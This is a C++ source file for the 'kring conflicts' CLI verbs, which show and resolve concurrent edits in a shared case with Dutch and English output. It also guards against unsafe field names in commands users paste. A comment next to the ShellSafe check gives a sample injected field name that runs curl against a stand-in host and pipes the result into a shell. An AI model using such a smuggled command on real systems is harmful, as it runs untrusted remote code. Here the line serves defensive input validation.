// kring conflicts: two edits made at the same time on the same field (F8), by two people or by
// one account on two of its devices (said as such: nobody disagreed with anyone). The reducer
// keeps both values: the later one in the field, the other in a visible conflict. Resolving
// writes the chosen value based on the revision now visible; every device's reducer then marks
// the conflicts on that field resolved (model/reducer.cpp), so all devices converge on it.
// The list names the item and the field (with labels in the user's language; the stored names
// only in the command that resolves it), authors (their names in the circle) and which value
// came in last; the values themselves only with --values. Names are case content too: neither list
// belongs in a shared log.
#include <algorithm>
#include <cstdlib>
#include <iostream>
#include <map>

#include "kring/common/crypto.h"
#include "kring/domain/organising.h"
#include "kring/domain/plan.h"

#include "domain_commands.h"
#include "domain_ctx.h"
#include "words.h"

namespace kring::cli {
namespace {

// Who wrote a value: "jou"/"you", the name of the account's person in the circle, else its role
// in the case ("gespreksleider") or the start of its id (Ctx::NameOfAccount).
std::string Author(const Ctx& ctx, const Bytes& me, const std::string& account) {
  if (ToBytes(account) == me) return ctx.T("jou", "you");
  return ctx.NameOfAccount(ToBytes(account));
}

std::string ShowValue(const Ctx& ctx, const std::string& type, const std::string& field,
                      const v1::Value& v) {
  switch (v.kind_case()) {
    case v1::Value::kText:
      // Identifiers (a person's kind, an agreement's state "not_done") as the words the user
      // reads elsewhere; free text as it is.
      return "\"" + ShowWord(ctx, ValueWords(type, field), v.text()) + "\"";
    case v1::Value::kInteger:
      // Times are stored as milliseconds in fields named *_ms.
      if (field.size() > 3 && field.compare(field.size() - 3, 3, "_ms") == 0) {
        return ShowTime(ctx, v.integer());
      }
      return std::to_string(v.integer());
    case v1::Value::kFlag:
      return v.flag() ? ctx.T("ja", "yes") : ctx.T("nee", "no");
    case v1::Value::kBlob: {
      // A person (an agreement's owner, the network's contact person) by their name.
      const Bytes id = ToBytes(v.blob());
      const std::string name = id.size() == crypto::kIdBytes ? ctx.NameOf(id) : "?";
      return name != "?" ? name : Hex(id);
    }
    case v1::Value::kTimeMs:
      return ShowTime(ctx, v.time_ms());
    default:
      return ctx.T("(leeg)", "(empty)");
  }
}

std::string JValue(const v1::Value& v) {
  switch (v.kind_case()) {
    case v1::Value::kText:
      return JStr(v.text());
    case v1::Value::kInteger:
      return JNum(v.integer());
    case v1::Value::kFlag:
      return JBool(v.flag());
    case v1::Value::kBlob:
      return JStr(Hex(View(v.blob())));
    case v1::Value::kTimeMs:
      return JNum(v.time_ms());
    default:
      return "null";
  }
}

// Whether `word` can stand in a shell command as it is: letters, digits and '_' only. Any member
// can write any field name (1..64 bytes of UTF-8), so a name like "x$(curl evil|sh)" must never
// reach a line the user copies into a shell.
bool ShellSafe(const std::string& word) {
  return !word.empty() && std::all_of(word.begin(), word.end(), [](char ch) {
    return (ch >= 'a' && ch <= 'z') || (ch >= 'A' && ch <= 'Z') || (ch >= '0' && ch <= '9') ||
           ch == '_';
  });
}

// The commands that resolve a conflict, one complete line per choice: "current|other" pasted
// into a shell would be a pipe. The field's name only when it is safe to paste; otherwise the
// general form, with the name to be taken from `kring conflicts --json`.
void PrintResolveCommands(const Ctx& ctx, const std::string& entity_hex, const std::string& field) {
  const bool hex =
      !entity_hex.empty() && entity_hex.find_first_not_of("0123456789abcdef") == std::string::npos;
  const std::string entity = hex ? entity_hex : "ID";
  std::string named = field;
  if (!hex || !ShellSafe(field)) {
    std::cout << ctx.T(
        "    Deze naam van het veld kan niet veilig in een opdracht. Neem hem uit "
        "\"field\" van kring conflicts --json:\n",
        "    This field's name cannot safely go into a command. Take it from "
        "\"field\" of kring conflicts --json:\n");
    named = ctx.T("VELD", "FIELD");
  }
  // The choices in the user's language (huidige, andere); the English words work too.
  for (const Word& keep : kKeepChoices) {
    // With the case: the line works as pasted also without KRING_CASE or on a device with more
    // than one case.
    std::cout << "      kring conflicts resolve --case " << Hex(ctx.case_id) << " --entity "
              << entity << " --field " << named << " --keep " << (ctx.english() ? keep.en : keep.nl)
              << "\n";
  }
}

// The conflicts a user is shown: on items in the view, with two different values
// (domain::ShowsAsConflict).
std::vector<v1::Conflict> OpenConflicts(const v1::CaseState& view) {
  std::vector<v1::Conflict> out;
  for (const v1::Conflict& c : view.conflicts()) {
    if (domain::ShowsAsConflict(c) && view.entities().count(Hex(View(c.entity_id()))) != 0) {
      out.push_back(c);
    }
  }
  return out;
}

// A plan version written from an older view (domain::StaleVersionConflicts): both versions by
// number, who wrote them, and what to do. Versions are written once: a new version resolves it.
void PrintStaleVersion(const Ctx& ctx, const Bytes& me, const v1::Conflict& c) {
  const std::string late = std::to_string(c.kept_value().integer());
  const std::string unseen = std::to_string(c.other_value().integer());
  std::cout << ctx.T("  Planversie ", "  Plan version ") << late
            << ctx.T(" is gemaakt zonder versie ", " was made without seeing version ") << unseen
            << ctx.T(" te zien.", ".") << "\n"
            << ctx.T("    versie ", "    version ") << late
            << ctx.T(": geschreven door ", ": written by ")
            << Author(ctx, me, c.kept_author_account_id()) << "\n"
            << ctx.T("    versie ", "    version ") << unseen
            << ctx.T(": geschreven door ", ": written by ")
            << Author(ctx, me, c.other_author_account_id()) << "\n"
            << ctx.T("    Wat versie ", "    What version ") << unseen
            << ctx.T(" veranderde, staat misschien niet in versie ",
                     " changed may be missing from version ")
            << late << ".\n"
            << ctx.T("    Vergelijk ze (kring plan show ", "    Compare them (kring plan show ")
            << unseen << ctx.T(", kring plan show ", ", kring plan show ") << late
            << ctx.T(") en maak zo nodig een nieuwe versie (kring plan publish).",
                     ") and make a new version if needed (kring plan publish).")
            << "\n";
}

int List(Ctx& ctx) {
  auto view = ctx.client.View(ctx.case_id);
  if (!view.ok()) return Fail(view.status());
  auto me = ctx.client.Account();
  if (!me.ok()) return Fail(me.status());
  const std::vector<v1::Conflict> open = OpenConflicts(*view);
  const std::vector<v1::Conflict> stale = domain::StaleVersionConflicts(*view);
  const bool values = ctx.On("values");
  if (ctx.json) {
    std::vector<std::string> rows;
    // A stale plan version first, with its numbers: they are no case content.
    for (const v1::Conflict& c : stale) {
      auto side = [&](const std::string& author, uint64_t seq, const v1::Value& v) {
        return JObj({{"author", JStr(Hex(View(author)))},
                     {"seq", JNum(static_cast<int64_t>(seq))},
                     {"value", JValue(v)}});
      };
      rows.push_back(
          JObj({{"entity", JStr(Hex(View(c.entity_id())))},
                {"type", JStr(view->entities().at(Hex(View(c.entity_id()))).type())},
                {"field", JStr(c.field())},
                {"current", side(c.kept_author_account_id(), c.kept_seq(), c.kept_value())},
                {"other", side(c.other_author_account_id(), c.other_seq(), c.other_value())}}));
    }
    for (const v1::Conflict& c : open) {
      const std::string type = view->entities().at(Hex(View(c.entity_id()))).type();
      auto side = [&](const std::string& author, uint64_t seq, const v1::Value& v) {
        std::vector<std::pair<std::string, std::string>> members = {
            {"author", JStr(Hex(View(author)))}, {"seq", JNum(static_cast<int64_t>(seq))}};
        if (values) members.push_back({"value", JValue(v)});
        return JObj(members);
      };
      const bool one_account = c.kept_author_account_id() == c.other_author_account_id();
      rows.push_back(
          JObj({{"entity", JStr(Hex(View(c.entity_id())))},
                {"type", JStr(type)},
                {"field", JStr(c.field())},
                {"one_account", JBool(one_account)},
                {"own_devices",
                 JBool(one_account && ToBytes(c.kept_author_account_id()) == me->account_id)},
                {"current", side(c.kept_author_account_id(), c.kept_seq(), c.kept_value())},
                {"other", side(c.other_author_account_id(), c.other_seq(), c.other_value())}}));
    }
    PrintJson(JArr(rows));
    return 0;
  }
  if (open.empty() && stale.empty()) {
    std::cout << ctx.T("Geen conflicten: niemand heeft tegelijk hetzelfde veranderd.",
                       "No conflicts: nobody changed the same thing at the same time.")
              << "\n";
    return 0;
  }
  if (!stale.empty()) {
    std::cout << ctx.T("Een versie van het plan is gemaakt zonder de versie ervoor te zien:",
                       "A version of the plan was made without seeing the version before it:")
              << "\n";
    for (const v1::Conflict& c : stale) PrintStaleVersion(ctx, me->account_id, c);
    if (open.empty()) return 0;
  }
  // Two devices of one account are not two people: the heading says who it was when all agree.
  size_t own = 0, one_account = 0;
  for (const v1::Conflict& c : open) {
    if (c.kept_author_account_id() != c.other_author_account_id()) continue;
    ++one_account;
    if (ToBytes(c.kept_author_account_id()) == me->account_id) ++own;
  }
  if (own == open.size()) {
    std::cout << ctx.T(
        "Je veranderde tegelijk hetzelfde op twee van jouw apparaten. Beide waarden zijn bewaard:",
        "You changed the same thing on two of your devices at the same time. Both values are "
        "kept:");
  } else if (one_account == 0) {
    std::cout << ctx.T("Twee mensen veranderden tegelijk hetzelfde. Beide waarden zijn bewaard:",
                       "Two people changed the same thing at the same time. Both values are kept:");
  } else {
    std::cout << ctx.T("Hetzelfde werd tegelijk twee keer veranderd. Beide waarden zijn bewaard:",
                       "The same thing was changed twice at the same time. Both values are kept:");
  }
  std::cout << "\n";
  // Three or more values at once on one field: "other" is not one of them, a number is. Only
  // then does a value show the number that picks it (its place in the case's log).
  std::map<std::pair<std::string, std::string>, int> per_field;
  for (const v1::Conflict& c : open) ++per_field[{c.entity_id(), c.field()}];
  bool several = false;
  // Labels in the user's language; the stored names only in the command that resolves it.
  for (const v1::Conflict& c : open) {
    const bool numbered = per_field[{c.entity_id(), c.field()}] > 1;
    several |= numbered;
    const auto pick = [&](uint64_t seq) {
      return numbered
                 ? ctx.T(" (kies met --keep ", " (choose with --keep ") + std::to_string(seq) + ")"
                 : std::string();
    };
    const std::string id = Hex(View(c.entity_id()));
    const std::string type = view->entities().at(id).type();
    // A person of the circle also by name: the id alone does not say who.
    const std::string who = type == domain::kPersonType
                                ? " " + ctx.NameOf(ToBytes(c.entity_id())) + " (" + id + ")"
                                : " " + id;
    std::cout << "  " << EntityLabel(ctx, type) << who << ": " << FieldLabel(ctx, c.field())
              << "\n";
    if (c.kept_author_account_id() == c.other_author_account_id()) {
      if (ToBytes(c.kept_author_account_id()) == me->account_id) {
        std::cout << ctx.T("    Op twee van jouw apparaten tegelijk veranderd.",
                           "    Changed on two of your devices at the same time.");
      } else {
        std::cout << "    " << Author(ctx, me->account_id, c.kept_author_account_id())
                  << ctx.T(" veranderde dit op twee apparaten tegelijk.",
                           " changed this on two devices at the same time.");
      }
      std::cout << "\n";
    }
    // When: both were written without seeing the other; the current one reached the server
    // last. The case keeps no clock time for a change, only this order.
    std::cout << ctx.T("    huidige waarde: ", "    current value: ")
              << (values ? ShowValue(ctx, type, c.field(), c.kept_value()) + ", " : "")
              << ctx.T("geschreven door ", "written by ")
              << Author(ctx, me->account_id, c.kept_author_account_id())
              << ctx.T(", kwam als laatste binnen", ", came in last") << pick(c.kept_seq()) << "\n"
              << ctx.T("    andere waarde: ", "    other value: ")
              << (values ? ShowValue(ctx, type, c.field(), c.other_value()) + ", " : "")
              << ctx.T("geschreven door ", "written by ")
              << Author(ctx, me->account_id, c.other_author_account_id())
              << ctx.T(", kwam eerder binnen", ", came in earlier") << pick(c.other_seq()) << "\n"
              << ctx.T("    Kies de huidige of de andere waarde:\n",
                       "    Choose the current or the other value:\n");
    PrintResolveCommands(ctx, id, c.field());
  }
  if (!values) {
    std::cout << ctx.T("De waarden zelf: kring conflicts --values",
                       "The values themselves: kring conflicts --values")
              << "\n";
  }
  if (several) {
    std::cout << ctx.T(
                     "Meer dan twee waarden op één veld: kies er één met --keep en het nummer "
                     "achter die waarde.",
                     "More than two values on one field: choose one with --keep and the number "
                     "after that value.")
              << "\n";
  }
  return 0;
}

int Resolve(Ctx& ctx) {
  auto entity = ParseId(ctx.Get("entity"));
  if (!entity) return BadId("--entity");
  const std::string field = ctx.Get("field");
  // huidige/andere or current/other, in any case; else a number from `kring conflicts`.
  const std::string keep = DomainWord(kKeepChoices, ctx.Get("keep"));
  if (field.empty() || keep.empty()) {
    return BadInput(ctx, "Geef --entity, --field en --keep huidige|andere|NUMMER.",
                    "Give --entity, --field and --keep current|other|NUMBER.");
  }
  auto view = ctx.client.View(ctx.case_id);
  if (!view.ok()) return Fail(view.status());
  for (const v1::Conflict& c : domain::StaleVersionConflicts(*view)) {
    if (ToBytes(c.entity_id()) == *entity) {
      return Fail(FailedPrecondition(
          ctx.T("Een versie van het plan verandert niet. Maak een nieuwe versie met wat beide "
                "versies veranderden (kring plan publish).",
                "A version of the plan does not change. Make a new version with what both "
                "versions changed (kring plan publish).")));
    }
  }
  std::vector<v1::Conflict> open;
  for (const v1::Conflict& c : OpenConflicts(*view)) {
    if (ToBytes(c.entity_id()) == *entity && c.field() == field) open.push_back(c);
  }
  if (open.empty()) {
    return Fail(FailedPrecondition(ctx.T("Er is geen open conflict op dit veld.",
                                         "There is no open conflict on this field.")));
  }
  // The conflicts on one field, oldest first: the last one's kept value is in the field now.
  std::sort(open.begin(), open.end(), [](const v1::Conflict& a, const v1::Conflict& b) {
    return a.kept_seq() < b.kept_seq();
  });
  std::optional<v1::Value> chosen;
  if (keep == "current") {
    chosen = open.back().kept_value();
  } else if (keep == "other") {
    // With several concurrent values "other" is ambiguous: then the user names a revision.
    for (const v1::Conflict& c : open) {
      if (c.other_seq() != open.front().other_seq()) {
        return BadInput(ctx,
                        "Er zijn meer andere waarden; kies er één met --keep NUMMER "
                        "(kring conflicts toont de nummers).",
                        "There are several other values; choose one with --keep NUMBER "
                        "(kring conflicts shows the numbers).");
      }
    }
    chosen = open.front().other_value();
  } else {
    char* end = nullptr;
    const uint64_t seq = std::strtoull(keep.c_str(), &end, 10);
    if (end == keep.c_str() || *end != '\0') {
      return BadInput(ctx, "--keep: huidige, andere of een nummer uit kring conflicts.",
                      "--keep: current, other or a number from kring conflicts.");
    }
    for (const v1::Conflict& c : open) {
      if (c.kept_seq() == seq) chosen = c.kept_value();
      if (c.other_seq() == seq) chosen = c.other_value();
    }
    if (!chosen) {
      return BadInput(ctx, "Geen waarde met dit nummer in dit conflict (kring conflicts).",
                      "No value with this number in this conflict (kring conflicts).");
    }
  }
  // SetField bases the edit on the revision now visible, which settles every conflict on it.
  Status s = ctx.client.SetField(ctx.case_id, *entity, field, *chosen);
  if (!s.ok()) return Fail(s);
  return ctx.Done("Conflict opgelost: deze waarde geldt nu, op elk apparaat na de sync.",
                  "Conflict resolved: this value now holds, on every device after the sync.");
}

}  // namespace

const std::vector<Verb>& ConflictVerbs() {
  static const std::vector<Verb> verbs = {
      {"conflicts",
       "",
       "[--values]",
       "Toon wat tegelijk twee keer veranderd is (wie, wat het laatst binnenkwam; --values: de "
       "waarden)",
       "Show what was changed twice at the same time (who, what came in last; --values: the "
       "values)",
       {},
       {"values"},
       List},
      {"conflicts",
       "resolve",
       "--entity ID --field VELD --keep huidige|andere|NUMMER",
       "Kies welke waarde geldt; het conflict verdwijnt op elk apparaat",
       "Choose which value holds; the conflict goes away on every device",
       {"entity", "field", "keep"},
       {},
       Resolve},
  };
  return verbs;
}

}  // namespace kring::cli
